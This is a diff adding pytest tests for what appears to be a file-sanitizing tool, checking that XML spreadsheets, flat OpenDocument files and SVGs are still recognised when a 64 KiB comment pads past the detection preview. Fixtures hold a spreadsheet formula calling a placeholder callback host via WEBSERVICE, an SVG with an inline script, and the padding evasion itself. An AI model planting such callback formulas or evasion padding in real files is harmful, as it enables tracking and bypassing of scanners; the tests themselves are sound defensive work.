@@ -173,3 +173,60 @@ def test_libreoffice_fetches_the_picture_of_a_flat_opendocument_file_named_xml(
     original.write_bytes(_flat_odt(recorder.base))
     _libreoffice(tmp_path, original, "pdf")
     assert "/hit.png" in recorder.paths, recorder.paths
+
+
+# -- a prolog longer than detection's preview --------------------------------------------
+
+#: A comment longer than the first 64 KiB detection reads.
+_PADDING = b"<!--" + b" padding " * 8_000 + b"-->\n"
+_SPREADSHEET = (
+    b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"'
+    b' xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="S"><Table>'
+    b'<Row><Cell ss:Formula="=1+41"><Data ss:Type="Number">0</Data></Cell>'
+    b'<Cell ss:Formula="=WEBSERVICE(&quot;http://callback.invalid/&quot;)">'
+    b'<Data ss:Type="String"></Data></Cell></Row></Table></Worksheet></Workbook>\n'
+)
+_XML_DECLARATION = b'<?xml version="1.0"?>\n'
+_EXCEL_PI = b'<?mso-application progid="Excel.Sheet"?>\n'
+_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n'
+
+PADDED = {
+    "spreadsheet-with-instruction": _XML_DECLARATION + _EXCEL_PI + _PADDING + _SPREADSHEET,
+    "spreadsheet": _XML_DECLARATION + _PADDING + _SPREADSHEET,
+    "flat-odt": _flat_odt(prolog=_PADDING),
+    "svg": _XML_DECLARATION + _PADDING + _SVG,
+}
+
+
+@pytest.mark.parametrize("kind", sorted(PADDED))
+@pytest.mark.parametrize("name", ["book.xml", "book.xls", "book.doc", "book", "notes.txt"])
+def test_markup_is_told_past_a_prolog_longer_than_the_preview(
+    tmp_path: Path, kind: str, name: str
+) -> None:
+    """The root element that makes XML an Office, OpenDocument or SVG document may
+    come after 64 KiB of comments: Excel, Word and LibreOffice read it there all the
+    same (LibreOffice computes the padded spreadsheet's formulas, named .xml), so the
+    whole file is judged, never text because the preview held only the prolog."""
+    data = PADDED[kind]
+    assert len(data) > 65536
+    answer, _ = _disarm(tmp_path, data, name)
+    expected = {"svg": "svg", "flat-odt": "opendocument"}.get(kind, "office_xml")
+    assert answer["file_type"]["family"] == expected, answer
+    if kind != "svg":
+        assert answer["outcome"] == "unsupported", answer
+
+
+def test_text_with_a_long_comment_first_is_still_text(tmp_path: Path) -> None:
+    data = _XML_DECLARATION + _PADDING + b"<rss><channel/></rss>\n"
+    answer, out = _disarm(tmp_path, data, "feed.xml")
+    assert answer["outcome"] == "unmodified" and answer["file_type"]["name"] == "text"
+
+
+def test_libreoffice_computes_the_formulas_of_a_padded_spreadsheet_named_xml(
+    tmp_path: Path,
+) -> None:
+    original = tmp_path / "book.xml"
+    original.write_bytes(PADDED["spreadsheet"])
+    converted = _libreoffice(tmp_path, original, "csv")
+    assert converted is not None
+    assert converted.read_text().startswith("42,"), converted.read_text()
